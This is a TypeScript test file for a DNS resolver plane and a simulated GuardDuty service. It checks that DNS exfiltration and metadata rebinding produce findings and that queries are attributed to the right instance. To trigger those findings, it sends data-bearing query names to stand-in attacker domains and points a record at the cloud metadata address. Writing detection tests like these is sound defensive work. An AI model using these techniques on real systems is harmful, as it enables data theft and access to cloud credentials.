/** From a DNS query to a finding: a resolver in a process of its own reports what machines look up, and threat detection reads it. */
import { createHash } from 'node:crypto'
import { Resolver } from 'node:dns/promises'
import { mkdtemp } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import * as EC2 from '@aws-sdk/client-ec2'
import * as gd from '@aws-sdk/client-guardduty'
import { ChangeResourceRecordSetsCommand, CreateHostedZoneCommand, Route53Client } from '@aws-sdk/client-route-53'
import { afterEach, expect, test, vi } from 'vitest'
import { ACCOUNT, cloud } from '../../../test/cloud.ts'
import { createCode } from '../../kernel/planes/enrollment.ts'
import type { ObservedQuery } from '../../kernel/planes/observed-queries.ts'
import type { PlaneScope } from '../../kernel/planes/plane-scope.ts'
import { QueryRecorder } from '../../planes/resolver/query-recorder.ts'
import { createLogger } from '../compose/log.ts'
import { listen } from '../listen/listener.ts'
import { runPlane } from './plane-process.ts'

const closers: (() => unknown)[] = []
afterEach(async () => {
  for (const close of closers.splice(0).reverse()) await close()
})

/** A machine whose network has addresses of the loopback interface: a test can send from them. */
async function world(scope?: (vpcId: string) => PlaneScope) {
  const it = await cloud()
  const guardduty = it.client(gd.GuardDutyClient)
  const { DetectorId } = await guardduty.send(new gd.CreateDetectorCommand({ Enable: true }))
  const ec2 = it.client(EC2.EC2Client)
  const machine = async () => {
    const { Vpc } = await ec2.send(new EC2.CreateVpcCommand({ CidrBlock: '127.0.0.0/16' }))
    const VpcId = Vpc!.VpcId!
    const { Subnet } = await ec2.send(new EC2.CreateSubnetCommand({ VpcId, CidrBlock: '127.0.7.0/24' }))
    const { Images } = await ec2.send(new EC2.DescribeImagesCommand({ Owners: ['amazon'] }))
    const ImageId = Images![0]!.ImageId!
    const { Instances } = await ec2.send(
      new EC2.RunInstancesCommand({ ImageId, MinCount: 1, MaxCount: 1, SubnetId: Subnet!.SubnetId! }),
    )
    return { VpcId, id: Instances![0]!.InstanceId!, address: Instances![0]!.PrivateIpAddress! }
  }
  const first = await machine()
  const listener = await listen((request) => it.handle(request), { host: '127.0.0.1', port: 0 })
  closers.push(() => listener.close())
  const code = await it.store.run((unit) =>
    createCode(unit, it.vault, 'resolver', it.clock.now(), scope?.(first.VpcId)),
  )
  const plane = await runPlane({
    plane: 'resolver',
    node: 'edge-1',
    state: await mkdtemp(join(tmpdir(), 'plane-')),
    server: listener.url,
    code,
    host: '127.0.0.1',
    ports: { dns: 0 },
    logger: createLogger('error'),
    recordsEveryMs: 100,
    waitMs: 200,
  })
  closers.push(() => plane.close())
  it.start()
  const resolverFrom = (address: string): Resolver => {
    const client = new Resolver({ timeout: 2_000, tries: 2 })
    client.setServers([`127.0.0.1:${plane.listeners[0]!.port}`])
    client.setLocalAddress(address)
    return client
  }
  const findings = async () => {
    const { FindingIds } = await guardduty.send(new gd.ListFindingsCommand({ DetectorId }))
    return (await guardduty.send(new gd.GetFindingsCommand({ DetectorId, FindingIds }))).Findings!
  }
  const waiting = async () => (await it.store.reader.range('guardduty/query-intake/')).length
  const found = (type: string): Promise<gd.Finding> =>
    vi.waitFor(
      async () => {
        await it.pass(2_000)
        const seen = (await findings()).find(({ Type }) => Type === type)
        if (!seen) throw new Error(`no ${type} yet`)
        return seen
      },
      { timeout: 20_000, interval: 200 },
    )
  return { ...it, DetectorId, guardduty, machine, first, resolverFrom, found, findings, waiting }
}

/** Names with 40 characters of data each. */
const dataNames = (domain: string) =>
  Array.from({ length: 60 }, (_, at) => `${createHash('sha1').update(String(at)).digest('hex')}.${domain}`)

test('Data that a machine sends in the names of queries is found, under the domain that its owner registered', async () => {
  const it = await world()
  const { address, id } = it.first
  const route53 = it.client(Route53Client)
  const { HostedZone } = await route53.send(new CreateHostedZoneCommand({ Name: 'corp.test', CallerReference: '1' }))
  const ResourceRecordSet = {
    Name: 'metadata.corp.test',
    Type: 'A' as const,
    TTL: 60,
    ResourceRecords: [{ Value: '169.254.169.254' }],
  }
  await route53.send(
    new ChangeResourceRecordSetsCommand({
      HostedZoneId: HostedZone!.Id,
      ChangeBatch: { Changes: [{ Action: 'CREATE', ResourceRecordSet }] },
    }),
  )
  const client = it.resolverFrom(address)
  await vi.waitFor(async () => expect(await client.resolve4('metadata.corp.test')).toEqual(['169.254.169.254']), {
    timeout: 20_000,
  })
  for (const name of dataNames('evil.co.uk')) await client.resolveTxt(name).catch(() => undefined)

  const tunnel = await it.found('Trojan:EC2/DNSDataExfiltration')
  expect(tunnel.Resource?.InstanceDetails?.InstanceId).toBe(id)
  expect(tunnel.Service?.Action).toMatchObject({ ActionType: 'DNS_REQUEST' })
  expect(JSON.stringify(tunnel)).toContain('below evil.co.uk')
  const rebind = await it.found('UnauthorizedAccess:EC2/MetadataDNSRebind')
  expect(rebind.Service?.Action?.DnsRequestAction).toMatchObject({ Domain: 'metadata.corp.test', Protocol: 'UDP' })

  const { Resources } = await it.guardduty.send(new gd.ListCoverageCommand({ DetectorId: it.DetectorId }))
  expect(Resources!.find(({ ResourceId }) => ResourceId === 'DNS_LOGS')?.CoverageStatus).toBe('HEALTHY')
})

test('A query from an address of two networks is attributed where the scope of the resolver leaves one', async () => {
  const it = await world((vpcId) => [`arn:aws:ec2:us-east-1:${ACCOUNT}:vpc/${vpcId}`])
  const other = await it.machine()
  expect(other.address).toBe(it.first.address)
  for (const name of dataNames('evil.example'))
    await it
      .resolverFrom(other.address)
      .resolve4(name)
      .catch(() => undefined)
  const tunnel = await it.found('Trojan:EC2/DNSDataExfiltration')
  expect(tunnel.Resource?.InstanceDetails?.InstanceId).toBe(it.first.id)
})

test('Without a scope it is not, and queries from other addresses are not', async () => {
  const it = await world()
  await it.machine()
  for (const address of [it.first.address, '127.0.0.1'])
    for (const name of dataNames('evil.example'))
      await it
        .resolverFrom(address)
        .resolve4(name)
        .catch(() => undefined)
  await vi.waitFor(async () => expect(await it.waiting()).toBeGreaterThan(0), { timeout: 20_000 })
  await it.pass(2_000)
  expect(await it.waiting()).toBe(0)
  expect(await it.store.reader.range('guardduty/network-events/')).toEqual([])
})

test('Queries beyond what is reported of a client, and of all, are dropped and counted', () => {
  const sent: ObservedQuery[] = []
  let dropped = 0
  const recorder = new QueryRecorder({
    onRecord: (record) => void sent.push(...(record as { queries: ObservedQuery[] }).queries),
    onDropped: (count) => {
      dropped += count
    },
  })
  const query = (name: string, address: string) =>
    recorder.add({ name, type: 'A', rcode: 'REFUSED', answers: [], transport: 'UDP' }, { address, port: 5_353 })
  for (let at = 0; at < 150; at++) query(`${at}.corp.test`, '::ffff:10.0.0.5')
  query('0.CORP.test', '10.0.0.5')
  recorder.flush()
  expect([sent.length, dropped, sent[0]!.srcaddr]).toEqual([100, 50, '10.0.0.5'])

  for (let at = 0; at < 600; at++) query('www.corp.test', `10.0.${at >> 8}.${at & 255}`)
  recorder.flush()
  expect([sent.length, dropped]).toEqual([600, 150])
  query('0.corp.test', '10.0.0.5')
  recorder.flush()
  expect(sent.length).toBe(601)
})
